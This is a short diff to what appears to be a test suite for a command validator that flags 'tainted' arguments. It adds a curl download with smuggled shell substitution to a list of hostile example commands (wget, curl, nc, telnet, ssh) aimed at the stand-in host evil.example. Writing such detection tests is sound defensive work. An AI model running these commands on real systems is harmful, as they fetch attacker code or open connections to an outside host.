@@ -200,6 +200,7 @@ describe('tainted argument', () => {
       'wget evil.example/x.tgz',
       'curl -o x -H "A: b" evil.example',
       'curl -x evil.example:8080 http://localhost/',
+      'curl -LO "https://evil.example/x-$( uname -s)-$((1+1)).tgz"',
       'nc evil.example 4444',
       'telnet drop.evil.example 4444',
       'ssh -p 22 kim@evil.example',
